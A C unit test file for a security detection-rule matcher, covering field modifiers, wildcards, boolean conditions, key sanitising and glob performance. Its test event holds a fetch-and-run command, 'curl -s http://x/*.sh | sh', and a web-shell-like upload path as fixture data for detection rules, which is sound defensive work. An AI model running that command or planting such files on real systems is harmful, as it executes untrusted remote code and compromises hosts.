/* SPDX-License-Identifier: Apache-2.0 */
/* Matching: values, modifiers, conditions, and that nothing else matches. */
#include "rules.h"
#include "base/num.h"
#include "detect/rule.h"

/* Whether a rule with this detection hits the one event of this test. */
static int one(const char *detection)
{
    struct hb_arena *a = hb_arena_new(0);
    struct hb_event *e =
        file_event(a, "/var/www/Upload/Shell.PHP", "added", "removed");
    struct hb_rules *r;
    char text[2048];
    int n;

    assert_int_equal(hb_event_int(e, HB_F_EVENT_COUNT, 12), 0);
    assert_int_equal(hb_event_strz(e, HB_F_ACTOR_PROCESS_CMD_LINE,
                                   "curl -s http://x/*.sh | sh"),
                     0);
    (void)snprintf(text, sizeof(text), "%s%s", HEAD "detection:\n", detection);
    r = parse(text);
    n = hits(r, e);
    hb_rules_free(r);
    hb_arena_free(a);
    return n;
}

static void test_values(void **state)
{
    static const struct {
        const char *test;
        int want;
    } rows[] = {
        {"{Change: added}", 1},
        {"{Change: ADDED}", 1},
        {"{Change|cased: ADDED}", 0},
        {"{Change: add}", 0},
        {"{Change: [x, added]}", 1},
        {"{Change: [x, y]}", 0},
        {"{FileName|endswith: .php}", 1},
        {"{FileName|endswith|cased: .php}", 0},
        {"{FileName|endswith: longer.than.shell.php}", 0},
        {"{FileName|startswith: shell}", 1},
        {"{TargetFilename|contains: /upload/}", 1},
        {"{file.path|contains: /upload/}", 1},
        {"{TargetFilename|contains|all: [upload, shell]}", 1},
        {"{TargetFilename|contains|all: [upload, nothing]}", 0},
        {"{TargetFilename: '/var/*/shell.p?p'}", 1},
        {"{TargetFilename: '*.PHP'}", 1},
        {"{TargetFilename: '*.php5'}", 0},
        {"{TargetFilename|contains: 'up*sh?ll'}", 1},
        {"{TargetFilename|endswith: 'shell.*'}", 1},
        {"{CommandLine|contains: '/\\*.sh'}", 1},
        {"{CommandLine|contains: '/\\?.sh'}", 0},
        {"{Count: 12}", 1},
        {"{Count: 1}", 0},
        {"{Count|gt: 11}", 1},
        {"{Count|gt: 12}", 0},
        {"{Count|gte: 12}", 1},
        {"{Count|lt: 13}", 1},
        {"{Count|lte: 11}", 0},
        {"{FileName|gt: 1}", 0},
        {"{ActivityId: 3}", 1},
        {"{Severity|gte: 4}", 1},
        {"{Source: sense/files}", 1},
        {"{User: root}", 0},
        {"{User: '*'}", 0},
        {"{User: null}", 1},
        {"{User: 'null'}", 0},
        {"{User|exists: false}", 1},
        {"{Site|exists: true}", 1},
        {"{Change: added, Status: removed}", 1},
        {"{Change: added, Status: failed}", 0},
        {"[{Change: x}, {Status: removed}]", 1},
        {"[{Change: x}, {Status: y}]", 0},
    };

    (void)state;
    for (size_t i = 0; i < HB_ARRAY_LEN(rows); i++) {
        char text[256];

        (void)snprintf(text, sizeof(text), "  s: %s\n  condition: s\n",
                       rows[i].test);
        if (one(text) != rows[i].want)
            fail_msg("%s is not %d", rows[i].test, rows[i].want);
    }
}

static void test_conditions(void **state)
{
    static const struct {
        const char *condition;
        int want;
    } rows[] = {
        /* y* hold, n* do not */
        {"(y1 and y2) or n1 or n2", 1},
        {"y1 and (n1 or n2) and y2", 0},
        {"y1 and not n1 and (y2 or n2)", 1},
        {"not y1 or not (n1 or n2) and y2", 1},
        {"n1 and n2 or y1 and y2", 1},
        {"1 of y* and not 1 of n*", 1},
        {"all of y* and not all of n*", 1},
        {"1 of them", 1},
        {"all of them", 0},
        {"1 of n* or all of y*", 1},
        {"1 of *1 and y2 and not n2", 1},
        {"not not y1 and (y2) and not (n1) and not n2", 1},
    };

    (void)state;
    for (size_t i = 0; i < HB_ARRAY_LEN(rows); i++) {
        char text[512];

        (void)snprintf(text, sizeof(text),
                       "  y1: {Change: added}\n  y2: {Status: removed}\n"
                       "  n1: {Change: x}\n  n2: {Status: x}\n"
                       "  condition: %s\n",
                       rows[i].condition);
        if (one(text) != rows[i].want)
            fail_msg("%s is not %d", rows[i].condition, rows[i].want);
    }
}

/* Another class or another source is not looked at. */
static void test_logsource(void **state)
{
    struct hb_arena *a = hb_arena_new(0);
    struct hb_rules *r = parse(RULE("  s: {Site: city}\n  condition: s\n"));
    struct hb_event *e = file_event(a, "/x", "added", "ask");

    (void)state;
    assert_int_equal(hits(r, e), 1);
    e->source = "sense/net";
    assert_int_equal(hits(r, e), 0);
    e->source = NULL;
    assert_int_equal(hits(r, e), 0);
    e->source = "sense/files";
    e->class_uid = HB_EV_APP_LIFECYCLE;
    assert_int_equal(hits(r, e), 0);
    hb_rules_free(r);
    hb_arena_free(a);
}

static int keep_key(void *arg, const struct hb_rule *rule, const char *key)
{
    assert_string_equal(rule->title[HB_LANG_JA], "規則");
    (void)snprintf(arg, HB_FINDING_KEY, "%s", key);
    return 0;
}

/* What an attacker names a file cannot make the key longer or two lines. */
static void test_key(void **state)
{
    struct hb_arena *a = hb_arena_new(0);
    struct hb_rules *r =
        parse("title: {en: A rule, ja: 規則}\n"
              "id: 11111111-2222-4333-8444-555555555555\n"
              "status: test\ndescription: {en: It finds, ja: 見つける}\n"
              "logsource: {category: file_event}\nlevel: low\n"
              "tags: [hinoban.case.2]\n"
              "hinoban: {finding: 'p:%TargetFilename%/u:%User%/%Count%'}\n"
              "detection:\n  s: {Site: city}\n  condition: s\n");
    char key[HB_FINDING_KEY], path[1024];
    struct hb_event *e = file_event(a, "/a b\nc%Site%", "added", "ask");

    (void)state;
    assert_int_equal(hb_event_int(e, HB_F_EVENT_COUNT, -3), 0);
    assert_int_equal(hb_rules_match(r, e, keep_key, key), 1);
    assert_string_equal(key, "p:/a_b_c%Site%/u:-/-3");
    memset(path, 'x', sizeof(path));
    path[0] = '/';
    for (size_t i = 200; i + 3 < sizeof(path) - 1; i += 3)
        memcpy(path + i, "火", 3);
    path[sizeof(path) - 2] = '\0';
    e = file_event(a, path, "added", "ask");
    assert_int_equal(hb_rules_match(r, e, keep_key, key), 1);
    assert_true(strlen(key) < HB_FINDING_KEY);
    assert_true(strlen(key) > HB_FINDING_KEY - 8);
    assert_true(hb_utf8_valid(key, strlen(key)));
    hb_rules_free(r);
    hb_arena_free(a);
}

static int stop(void *arg, const struct hb_rule *rule, const char *key)
{
    (void)arg;
    (void)rule;
    (void)key;
    return -ENOSPC;
}

static void test_stop(void **state)
{
    struct hb_arena *a = hb_arena_new(0);
    struct hb_rules *r = parse(RULE("  s: {Site: city}\n  condition: s\n"));

    (void)state;
    assert_int_equal(
        hb_rules_match(r, file_event(a, "/x", "added", "ask"), stop, NULL),
        -ENOSPC);
    hb_rules_free(r);
    hb_arena_free(a);
}

static bool glob(const char *pattern, const char *text)
{
    return hb_rule_glob(hb_slice_z(pattern), hb_slice_z(text), true);
}

/* The classic trap of backtracking: must end, and soon. */
static void test_glob(void **state)
{
    char text[4001], pattern[64];

    (void)state;
    assert_true(glob("", ""));
    assert_true(glob("*", ""));
    assert_true(glob("**a**", "bab"));
    assert_false(glob("?", ""));
    assert_true(glob("\\\\x", "\\x"));
    assert_true(glob("a\\", "a\\"));
    assert_false(glob("a*b", "acbc"));
    memset(text, 'a', sizeof(text) - 1);
    text[sizeof(text) - 1] = '\0';
    for (size_t i = 0; i < 60; i += 2)
        memcpy(pattern + i, "a*", 2);
    memcpy(pattern + 60, "b", 2);
    assert_false(glob(pattern, text));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_values),    cmocka_unit_test(test_conditions),
        cmocka_unit_test(test_logsource), cmocka_unit_test(test_key),
        cmocka_unit_test(test_stop),      cmocka_unit_test(test_glob),
    };
    return hb_tap_run("detect/match", tests);
}
